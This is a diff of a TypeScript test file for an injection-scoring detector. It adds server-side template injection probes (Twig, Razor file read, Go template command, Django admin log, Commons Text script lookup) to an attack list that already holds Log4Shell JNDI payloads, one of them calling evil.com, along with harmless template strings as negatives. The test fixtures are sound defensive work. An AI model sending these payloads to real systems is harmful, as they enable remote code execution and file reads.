@@ -3,6 +3,15 @@ import { describe, expect, it } from 'vitest'
 import { familyTotalOf, totalOf } from './scan-score.ts'
 
 const attacks: readonly string[] = [
+  '{%- debug -%}',
+  '{{_self}}',
+  '@System.IO.File.ReadAllText("x")',
+  '${applicationScope}',
+  '${dns:address|example.net}',
+  '${script:javascript:1+1}',
+  "%{'a'+7*191}",
+  '{{ .System "ls" }}',
+  '{% load log %}{% get_admin_log 10 as log %}',
   '${jndi:ldap://evil.com/a}',
   '${${lower:j}ndi:${lower:l}dap://x}',
   '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}',
@@ -32,6 +41,10 @@ const attacks: readonly string[] = [
 ]
 
 const harmless: readonly string[] = [
+  '${pageContext.request.contextPath}/home',
+  '{{ .Values.image }}',
+  '{% load static %}',
+  '${url}',
   '{{ user.name }}',
   'Hello {{name}}, your order {{order.id}} has shipped',
   '${name}',
